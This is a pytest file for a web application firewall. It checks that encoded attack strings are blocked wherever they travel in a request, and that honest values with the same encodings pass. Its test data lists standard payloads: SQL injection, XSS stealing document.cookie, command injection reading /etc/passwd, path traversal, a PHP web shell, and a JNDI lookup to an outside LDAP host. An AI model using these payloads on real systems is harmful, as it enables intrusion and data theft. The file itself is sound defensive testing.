"""Attacks under a second encoding layer (an application that base64-decodes, percent-decodes again, or reads
JavaScript escapes and character references), in every place a value travels: through the real engine with
the whole ruleset a site gets. The same encodings of honest values must pass, or the rule that reads the
decoded value would refuse ordinary traffic."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from urllib.parse import quote

import pytest

from hostguard.waf.engine import Engine, Request

HEADERS = [("Host", "shop.example.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")]

ATTACKS = {
    "sqli": "' or '1'='1",
    "sqli-union": "0 union select null,version()-- -",
    "xss": "<img src=x onerror=alert(1)>",
    "xss-url": "javascript:alert(document.cookie)",
    "cmdi": "$(id)",
    "cmdi-pipe": "|cat /etc/passwd",
    "lfi": "../../../../etc/passwd",
    "ssti": "{{7*7}}",
    "php": "<?php system($_GET['c']); ?>",
    "nosqli": '{"$ne": null}',
    "jndi": "${jndi:ldap://198.51.100.1/a}",
}
HONEST = {
    "name": "Renée O'Brien-Smith",
    "url": "https://example.test/a b/report+q1.pdf?x=1&y=2",
    "prose": "Meet at 10:30; bring the 2025 plan (draft) - 100% ready?",
    "price": "Total: $24.99 & free shipping",
    "json": '{"user": "bob", "tags": ["a", "b"]}',
}
ENCODINGS: dict[str, Callable[[str], str]] = {
    "base64": lambda v: base64.b64encode(v.encode()).decode(),
    "percent-twice": lambda v: quote(v, safe=""),   # the wire's own encoding comes on top
    "js-escapes": lambda v: "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in v),
    "char-refs": lambda v: "".join(c if c.isalnum() else f"&#x{ord(c):x};" for c in v),
}


def _place(where: str, value: str) -> Request:
    if where == "query":
        return Request("GET", f"/api/items?filter={quote(value, safe='')}", HEADERS)
    if where == "header":
        return Request("GET", "/api/items", [*HEADERS, ("X-Filter", value)])
    if where == "form":
        body = f"filter={quote(value, safe='')}".encode()
        content_type = "application/x-www-form-urlencoded"
    else:
        body = json.dumps({"filter": value}).encode()
        content_type = "application/json"
    return Request("POST", "/api/items", [*HEADERS, ("Content-Type", content_type),
                                          ("Content-Length", str(len(body)))], body)


PLACES = ("query", "header", "form", "json")



@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("where", PLACES)
def test_encoded_attacks_are_refused_wherever_they_travel(waf: Engine, where: str, encoding: str) -> None:
    passed = [name for name, attack in ATTACKS.items()
              if not waf.inspect(_place(where, ENCODINGS[encoding](attack))).disruptive]
    assert not passed, f"{encoding} in {where}: {passed}"


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("where", PLACES)
def test_encoded_honest_values_pass(waf: Engine, where: str, encoding: str) -> None:
    refused = {name: waf.inspect(_place(where, ENCODINGS[encoding](value))).rule_ids
               for name, value in HONEST.items()}
    assert not {name: ids for name, ids in refused.items() if 949110 in ids}, f"{encoding} in {where}: {refused}"
